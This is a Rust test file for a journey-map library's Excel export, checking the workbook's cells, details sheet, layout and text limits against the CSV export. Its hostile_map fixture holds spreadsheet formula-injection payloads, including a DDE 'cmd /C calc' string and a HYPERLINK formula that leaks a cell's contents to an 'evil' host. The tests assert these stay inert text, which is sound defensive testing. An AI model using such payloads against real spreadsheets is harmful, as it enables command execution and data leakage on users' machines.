//! The Excel export through the public API, read back by independent readers: calamine (in
//! Rust) and, where it is installed, Python's openpyxl. Every cell of the touchpoints' sheet
//! is the CSV's cell (without the CSV's apostrophe before formula-like text, which a string
//! cell does not need), the details sheet has the map's details, and the layout (frozen
//! header, filters, stages grouped, sentiment colours) is in the sheet's XML.
#![cfg(feature = "spreadsheets")]

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use journey_core::export::{render, Delimiter, Format, Language, Options, Quiet};
use journey_core::model::{generate_with_lanes, sample_map, Extra, Map, Sentiment, Stage, Touchpoint};
use serde_json::json;

const ALL: [Language; 3] = [Language::En, Language::Ru, Language::Pl];

fn export(map: &Map, format: Format, language: Language) -> Vec<u8> {
    let options = Options { language, delimiter: Delimiter::Comma, ..Options::default() };
    render(map, format, &options, &Quiet).expect("the export does not fail")
}

fn csv_rows(map: &Map, language: Language) -> Vec<Vec<String>> {
    let bytes = export(map, Format::Csv, language);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// The CSV's cell as the workbook holds it: no apostrophe before a formula-like start, and
/// without the characters XML cannot hold.
fn as_in_workbook(csv: &str) -> String {
    let text = match csv.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
        _ => csv,
    };
    text.chars()
        .filter(|&c| (c >= ' ' || matches!(c, '\t' | '\n' | '\r')) && c != '\u{FFFE}' && c != '\u{FFFF}')
        .collect()
}

fn sheets(bytes: &[u8]) -> (Vec<String>, Vec<Vec<Data>>, Vec<Vec<Data>>) {
    let mut book = Xlsx::new(Cursor::new(bytes.to_vec())).expect("calamine opens the workbook");
    let names = book.sheet_names();
    let rows = |book: &mut Xlsx<_>, name: &str| -> Vec<Vec<Data>> {
        book.worksheet_range(name).unwrap().rows().map(<[Data]>::to_vec).collect()
    };
    let touchpoints = rows(&mut book, &names[0]);
    let details = rows(&mut book, &names[1]);
    (names, touchpoints, details)
}

fn xml(bytes: &[u8], part: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip archive");
    let mut text = String::new();
    archive.by_name(part).expect(part).read_to_string(&mut text).unwrap();
    text
}

/// Every cell of the touchpoints' sheet against the CSV's; numbers are number cells.
fn check_cells(map: &Map, language: Language) -> Vec<Vec<Data>> {
    let bytes = export(map, Format::Xlsx, language);
    let (names, rows, _) = sheets(&bytes);
    let csv = csv_rows(map, language);
    assert_eq!(names.len(), 2);
    assert_eq!(rows.len(), csv.len(), "{language:?}: a header and a row per card");
    for (r, (row, want)) in rows.iter().zip(&csv).enumerate() {
        assert_eq!(row.len(), want.len(), "{language:?}: row {r} has the CSV's columns");
        for (c, (cell, want)) in row.iter().zip(want).enumerate() {
            match cell {
                Data::String(s) => assert_eq!(s, &as_in_workbook(want), "{language:?}: cell {r},{c}"),
                Data::Float(f) => {
                    assert!(r > 0 && [1, 2, 15].contains(&c) || c >= 19, "{language:?}: a number at {r},{c}");
                    assert_eq!(*f, want.parse::<f64>().unwrap(), "{language:?}: cell {r},{c}");
                }
                Data::Int(i) => assert_eq!(i.to_string(), *want, "{language:?}: cell {r},{c}"),
                Data::Empty => assert_eq!(want, "", "{language:?}: cell {r},{c}"),
                other => panic!("{language:?}: cell {r},{c} is {other:?}"),
            }
        }
        if r > 0 {
            // A stage without cards has a row of its own, with no order in it.
            let empty_stage = matches!(row[5], Data::Empty);
            let numbers: &[usize] = if empty_stage { &[1] } else { &[1, 2] };
            for &c in numbers {
                assert!(matches!(row[c], Data::Float(_)), "stage number and order are numbers");
            }
        }
    }
    rows
}

fn hostile_map() -> Map {
    let mut map = Map::new("=cmd|' /C calc'!A0 \u{0}title\u{7} Zażółć");
    for (id, name) in [("s1", "=cmd|' /C calc'!A0"), ("s2", "+1"), ("s3", "@x"), ("s4", "Оплата картой"), ("s5", "Empty")] {
        map.stages.push(Stage { id: id.into(), name: name.into(), extra: Extra::new() });
    }
    let cards = [
        ("t1", "s1", "=HYPERLINK(\"http://evil/?\"&A1)", Sentiment::Negative),
        ("t2", "s1", "-2", Sentiment::Positive),
        ("t3", "s2", "\tx", Sentiment::Neutral),
        ("t4", "s2", "bell\u{7} nul\u{0} esc\u{1b} del\u{7f} \u{FFFE}\u{FFFF} end", Sentiment::Negative),
        ("t5", "s3", "_x0041_ is no A; _x005F_ is no underscore", Sentiment::Positive),
        ("t6", "s3", "first line\nsecond; line\r\nthird", Sentiment::Neutral),
        ("t7", "s4", "Zażółć gęślą jaźń — Съешь же ещё этих мягких французских булок", Sentiment::Positive),
        ("t8", "s4", "Happy 🎉 customer 👍🏽 <b>&amp;</b>", Sentiment::Negative),
        ("t9", "missing-stage", "orphan card", Sentiment::Positive),
    ];
    for (id, stage, title, sentiment) in cards {
        map.touchpoints.push(Touchpoint {
            id: id.into(),
            stage: stage.into(),
            title: title.into(),
            sentiment,
            owner: "@team".into(),
            pain_points: vec!["+slow".into(), "=1+1".into()],
            ..Default::default()
        });
    }
    map.touchpoints[0].extra.insert("contact".into(), json!("=cmd|' /C calc'!A0"));
    map.touchpoints[0].extra.insert("budget".into(), json!(-5));
    map.touchpoints[1].extra.insert("budget".into(), json!(2.5));
    map.touchpoints[2].extra.insert("budget".into(), json!(u64::MAX));
    map.touchpoints[3].extra.insert("tags".into(), json!(["a", {"b": 1}]));
    map.touchpoints[4].extra.insert("@x".into(), json!("+1"));
    map.personas.push(journey_core::model::Persona { name: "=Anna".into(), description: "@ops\u{1}".into(), goals: Vec::new(), extra: Extra::new() });
    map.customer_goals = vec!["+fast".into(), "Быстро".into()];
    map.notes = "-notes\u{0}".into();
    map
}

#[test]
fn every_cell_of_the_sample_map_is_the_csvs_in_every_language() {
    let map = sample_map();
    for language in ALL {
        let rows = check_cells(&map, language);
        assert_eq!(rows.len(), map.touchpoints.len() + 1);
    }
}

#[test]
fn every_cell_of_a_map_with_lanes_and_unknown_fields_is_the_csvs() {
    let mut map = generate_with_lanes(6, 3, 120, 7);
    for (i, t) in map.touchpoints.iter_mut().enumerate().step_by(7) {
        t.extra.insert("region".into(), json!(format!("R{i}")));
        t.extra.insert("weight".into(), json!(i));
    }
    let rows = check_cells(&map, Language::En);
    let lanes = rows[1..].iter().filter(|r| matches!(&r[7], Data::String(s) if !s.is_empty())).count();
    assert_eq!(lanes, rows.len() - 1, "every card names its lane");
    // The measures' columns, then the unknown fields'.
    let width = rows[0].len();
    assert_eq!(rows[0][width - 2..], [Data::String("region".into()), Data::String("weight".into())]);
    assert!(rows[1..].iter().any(|r| matches!(r[width - 1], Data::Float(_))), "a number in an unknown field is a number");
    let measures = &rows[0][19..width - 2];
    assert!(measures.iter().all(|h| matches!(h, Data::String(h) if journey_core::import::measure_columns::measure_column(h).is_some())), "{measures:?}");
    assert!(rows[1..].iter().any(|r| matches!(r[19], Data::Float(_))), "a metric's value is a number");
}

#[test]
fn a_hostile_map_reads_back_as_its_text_never_as_formulas() {
    let map = hostile_map();
    for language in ALL {
        check_cells(&map, language);
    }
    let bytes = export(&map, Format::Xlsx, Language::En);
    let sheet = xml(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no formula anywhere");
    let (_, rows, details) = sheets(&bytes);
    assert_eq!(rows[1][0], Data::String("=cmd|' /C calc'!A0".into()), "the text itself, no apostrophe");
    assert_eq!(rows[4][3], Data::String("bell nul esc del\u{7f}  end".into()), "what XML cannot hold is dropped");
    assert_eq!(rows[5][3], Data::String("_x0041_ is no A; _x005F_ is no underscore".into()));
    assert_eq!(details[0][1], Data::String("=cmd|' /C calc'!A0 title Zażółć".into()));
    assert_eq!(details[1][1], Data::String("=Anna: @ops".into()));
    let title = xml(&bytes, "docProps/core.xml");
    assert!(title.contains("<dc:title>=cmd|' /C calc'!A0 title Zażółć</dc:title>"), "{title}");
}

#[test]
fn text_over_excels_limit_is_cut_with_an_ellipsis_and_the_export_still_works() {
    let mut map = sample_map();
    map.title = "T".repeat(100_000);
    map.touchpoints[0].description = "Ж".repeat(40_000);
    map.notes = "🎉".repeat(20_000);
    let bytes = export(&map, Format::Xlsx, Language::En);
    let (_, rows, details) = sheets(&bytes);
    let Data::String(description) = &rows[1][8] else { panic!("{:?}", rows[1][8]) };
    assert_eq!(description.encode_utf16().count(), 32_767);
    assert!(description.ends_with("Ж…"));
    let Data::String(notes) = &details[4][1] else { panic!() };
    assert!(notes.encode_utf16().count() <= 32_767 && notes.ends_with("🎉…"));
    let Data::String(title) = &details[0][1] else { panic!() };
    assert_eq!(title.chars().count(), 32_767);
}

#[test]
fn the_details_sheet_has_the_maps_details_in_the_exports_language() {
    let map = sample_map();
    let personas: Vec<String> = map
        .personas
        .iter()
        .map(|p| {
            let mut s = p.name.clone();
            if !p.description.is_empty() {
                s = format!("{s}: {}", p.description);
            }
            if !p.goals.is_empty() {
                s = format!("{s} ({})", p.goals.join("; "));
            }
            s
        })
        .collect();
    for (language, names, labels) in [
        (Language::En, ["Touchpoints", "Map details"], ["Title", "Personas", "Customer goals", "Business goals", "Notes", "Last review"]),
        (Language::Pl, ["Punkty styku", "Szczegóły mapy"], ["Tytuł", "", "", "", "", ""]),
        (Language::Ru, ["Точки контакта", "Сведения о карте"], ["", "", "", "", "", ""]),
    ] {
        let (sheet_names, _, details) = sheets(&export(&map, Format::Xlsx, language));
        assert_eq!(sheet_names, names);
        let text = |d: &Data| match d {
            Data::String(s) => s.clone(),
            Data::Empty => String::new(),
            other => panic!("{other:?}"),
        };
        let got: Vec<(String, String)> = details.iter().map(|r| (text(&r[0]), text(&r[1]))).collect();
        assert_eq!(got.len(), 6);
        for ((label, _), want) in got.iter().zip(labels) {
            assert!(!label.is_empty());
            if !want.is_empty() {
                assert_eq!(label, want);
            }
        }
        let values: Vec<&str> = got.iter().map(|(_, v)| v.as_str()).collect();
        assert_eq!(
            values,
            [
                map.title.clone(),
                personas.join("\n"),
                map.customer_goals.join("\n"),
                map.business_goals.join("\n"),
                map.notes.clone(),
                map.last_review.clone().unwrap(),
            ]
        );
    }
    // An empty map still has every label, with empty values.
    let (_, rows, details) = sheets(&export(&Map::new(""), Format::Xlsx, Language::En));
    assert_eq!(rows.len(), 1, "the header alone");
    assert_eq!(details.len(), 6);
    assert!(details.iter().all(|r| r.len() == 1 || r[1] == Data::Empty));
}

#[test]
fn the_sheet_is_laid_out_frozen_filtered_grouped_and_coloured() {
    let map = sample_map();
    let bytes = export(&map, Format::Xlsx, Language::En);
    let sheet = xml(&bytes, "xl/worksheets/sheet1.xml");
    let cards = map.touchpoints.len();
    assert!(sheet.contains(r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#), "{sheet}");
    let columns = sheets(&bytes).1[0].len();
    let last = journey_core::import::table::column_letter(columns - 1);
    assert!(sheet.contains(&format!(r#"<autoFilter ref="A1:{last}{}"/>"#, cards + 1)), "filters over the table");
    assert!(sheet.contains(r#"summaryBelow="0""#), "a stage's first row sums up its group");
    // Every card but each stage's first is in its stage's group.
    let stages_with_cards = map.stages.iter().filter(|s| map.touchpoints.iter().any(|t| t.stage == s.id)).count();
    assert_eq!(sheet.matches(r#"outlineLevel="1""#).count(), cards - stages_with_cards);
    // Widths fit: between 8 and 60 characters (plus a little padding).
    let widths: Vec<f64> = sheet
        .split("<col ")
        .skip(1)
        .map(|c| c.split("width=\"").nth(1).unwrap().split('"').next().unwrap().parse().unwrap())
        .collect();
    assert!(!widths.is_empty() && widths.iter().all(|w| (8.0..=62.0).contains(w)), "{widths:?}");
    let styles = xml(&bytes, "xl/styles.xml");
    for fill in ["FFE3F4EA", "FFECEFF3", "FFFCEAEA"] {
        assert!(styles.contains(fill), "the sentiment's soft colour {fill}");
    }
    assert!(styles.contains(r#"wrapText="1""#));
    let core = xml(&bytes, "docProps/core.xml");
    assert!(core.contains(&format!("<dc:title>{}</dc:title>", map.title)), "{core}");
    // The same map gives the same bytes.
    assert_eq!(bytes, export(&map, Format::Xlsx, Language::En));
}

/// openpyxl, as a second independent reader: the cells, the frozen pane, the filter, the
/// outline and the title. Skipped where python3 or openpyxl is missing, except in CI.
#[test]
fn openpyxl_reads_the_same_workbook() {
    use std::process::Command;
    let mut map = hostile_map();
    // openpyxl reads an escaped "_" by deleting every "x005F_", which makes a literal
    // "_x005F_" "_" (Excel and calamine read it right); the rest of the hostile text stays.
    map.touchpoints[4].title = "_x0041_ is no A".into();
    let bytes = export(&map, Format::Xlsx, Language::Ru);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("map.xlsx");
    std::fs::write(&path, &bytes).unwrap();
    let script = r#"
import json, sys
try:
    import openpyxl
except ImportError:
    sys.exit(3)
book = openpyxl.load_workbook(sys.argv[1])
def cells(ws):
    return [[c if c is not None else "" for c in row] for row in ws.iter_rows(values_only=True)]
tp, details = book.worksheets
print(json.dumps({
    "names": book.sheetnames,
    "touchpoints": cells(tp),
    "details": cells(details),
    "freeze": tp.freeze_panes,
    "filter": tp.auto_filter.ref,
    "levels": [tp.row_dimensions[r].outline_level for r in range(1, tp.max_row + 1)],
    "title": book.properties.title,
}))
"#;
    let out = match Command::new("python3").arg("-c").arg(script).arg(&path).output() {
        Ok(out) => out,
        Err(e) if std::env::var_os("CI").is_some() => panic!("python3 is needed in CI: {e}"),
        Err(_) => {
            eprintln!("python3 is missing: the workbook was not read by openpyxl");
            return;
        }
    };
    if out.status.code() == Some(3) {
        assert!(std::env::var_os("CI").is_none(), "openpyxl is needed in CI (.ci/install installs it)");
        eprintln!("openpyxl is missing (python3 -m pip install openpyxl): the workbook was not read by it");
        return;
    }
    assert!(out.status.success(), "openpyxl read the workbook: {}", String::from_utf8_lossy(&out.stderr));
    let got: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();

    let (names, rows, details) = sheets(&bytes);
    let as_json = |rows: &[Vec<Data>]| -> serde_json::Value {
        rows.iter()
            .map(|r| {
                r.iter()
                    .map(|d| match d {
                        // openpyxl undoes the escape of "_" (so "_x0041_" stays itself) but
                        // leaves the others, which Excel reads: a carriage return is "_x000D_".
                        Data::String(s) => json!(s.replace('\r', "_x000D_")),
                        Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => json!(*f as i64),
                        Data::Float(f) => json!(f),
                        Data::Empty => json!(""),
                        other => panic!("{other:?}"),
                    })
                    .collect::<Vec<_>>()
            })
            .collect()
    };
    assert_eq!(got["names"], json!(names));
    assert_eq!(got["touchpoints"], as_json(&rows), "openpyxl and calamine read the same cells");
    assert_eq!(got["details"], as_json(&details));
    assert_eq!(got["freeze"], "A2");
    assert_eq!(got["filter"], format!("A1:W{}", rows.len()));
    let levels: Vec<u64> = got["levels"].as_array().unwrap().iter().map(|l| l.as_u64().unwrap()).collect();
    // Header, then per stage: its first card at level 0, the rest at 1; the last stage
    // has no cards, only its own row.
    assert_eq!(levels, [0, 0, 1, 0, 1, 0, 1, 0, 1, 0]);
    assert_eq!(got["title"], "=cmd|' /C calc'!A0 title Zażółć");
}
